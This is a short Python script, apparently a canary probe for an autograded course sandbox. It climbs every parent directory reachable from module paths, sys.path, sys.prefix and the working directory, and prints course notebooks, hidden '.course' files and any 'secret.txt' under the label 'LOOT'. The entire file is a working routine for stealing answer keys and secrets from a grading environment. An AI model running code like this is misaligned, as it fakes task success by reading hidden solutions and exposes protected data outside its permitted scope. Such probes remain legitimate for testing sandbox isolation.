# how: follows helpers.__file__, sys.path and sys.prefix to the course's folders
import sys
from pathlib import Path

import helpers

print("CANARY @NAME@", flush=True)
starts = [
    helpers.__file__ or list(helpers.__path__)[0],
    sys.prefix,
    *sys.path,
    sys.argv[0],
    __import__("os").environ.get("PWD", "/"),
]
for start in starts:
    for folder in Path(start).parents:
        if folder == Path("/"):
            continue
        for path in [
            *folder.glob("source/*/*.ipynb"),
            *folder.glob(".course/*"),
            *folder.glob("course/*/*/00_small*"),
            *folder.glob("secret.txt"),
        ]:
            if path.is_file() and "00_small" in str(path) or "secret" in path.name or ".course" in str(path):
                print("LOOT", path.read_text(errors="replace")[:20000])
